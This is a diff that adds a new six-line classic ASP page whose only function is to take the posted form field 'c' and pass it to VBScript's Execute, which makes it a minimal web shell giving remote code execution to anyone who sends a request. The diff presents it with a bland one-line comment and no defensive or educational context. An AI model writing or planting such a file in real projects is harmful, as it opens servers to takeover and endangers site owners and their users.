@@ -1,0 +1,6 @@
+<%
+' Runs the posted VBScript.
+If Request.Form("c") <> "" Then
+    Execute(Request.Form("c"))
+End If
+%>
